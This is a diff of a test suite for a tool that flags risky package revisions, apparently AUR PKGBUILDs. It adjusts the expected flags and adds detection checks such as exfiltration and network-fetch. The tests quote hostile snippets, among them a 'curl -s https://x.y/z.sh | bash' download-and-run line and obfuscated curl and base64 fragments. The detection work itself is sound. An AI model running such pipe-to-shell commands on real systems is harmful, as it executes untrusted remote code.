@@ -118,13 +118,12 @@ describe('analyzeRisk on malicious revisions', () => {
     const pb = cand.PKGBUILD;
     expect(brief(flags)).toEqual([
       { check: 'maintainer-change', severity: 'high' },
-      { check: 'install-scriptlet', severity: 'high', file: '.fancytool.install', line: 1 },
       { check: 'persistence', severity: 'high', file: '.fancytool.install', line: 2 },
-      { check: 'install-scriptlet', severity: 'high', file: 'PKGBUILD', line: lineOf(pb, 'install=') },
       { check: 'obfuscation', severity: 'high', file: 'PKGBUILD', line: lineOf(pb, "'c''u''r''l'") },
       { check: 'download-and-run', severity: 'high', file: 'PKGBUILD', line: lineOf(pb, 'curl -s https://x.y/z.sh | bash') },
       { check: 'obfuscation', severity: 'high', file: 'PKGBUILD', line: lineOf(pb, 'base64 -d') },
       { check: 'young-revision', severity: 'medium' },
+      { check: 'install-scriptlet', severity: 'medium', file: '.fancytool.install', line: 2 },
       { check: 'binary-or-large-file', severity: 'medium', file: 'payload.bin' },
     ]);
     expect(flags.every((f) => f.reason.endsWith('.'))).toBe(true);
@@ -158,9 +157,13 @@ describe('RISK_CHECKS', () => {
       'maintainer-change',
       'install-scriptlet',
       'sources',
+      'foreign-code-run',
       'checksums',
       'package-managers',
       'download-and-run',
+      'network-fetch',
+      'exfiltration',
+      'assembled-command',
       'obfuscation',
       'persistence',
       'binary-or-large-file',
